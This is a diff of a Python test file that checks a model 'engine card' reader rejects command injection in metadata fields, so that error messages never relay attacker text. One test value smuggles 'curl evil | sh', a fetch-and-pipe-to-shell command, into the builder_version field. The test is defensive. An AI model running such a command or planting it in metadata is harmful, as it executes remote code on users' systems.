@@ -104,10 +104,11 @@ def test_every_flipped_bit_is_noticed(engine: Path) -> None:
 )
 def test_no_card_puts_a_command_into_our_messages(engine: Path, command: str) -> None:
     change(engine, rebuild=command)
-    with pytest.raises(ModelFileError, match="rebuild is not what") as error:
-        engine_card.read(engine)
+    card = engine_card.read(engine)
+    assert card.rebuild == "mutualformer to_trt MODEL.onnx -o MODEL.engine --flavor rtx --batch 1 1 4 --tf32"
+    with pytest.raises(ModelFileError, match="rebuild it with: mutualformer to_trt MODEL") as error:
+        engine_card.verify_bytes(engine, card, b"x")
     assert "evil" not in str(error.value)
-    assert "reboot" not in str(error.value)
     change(engine, builder_version="10.3; now type: curl evil | sh")
     with pytest.raises(ModelFileError, match="builder_version"):
         engine_card.read(engine)
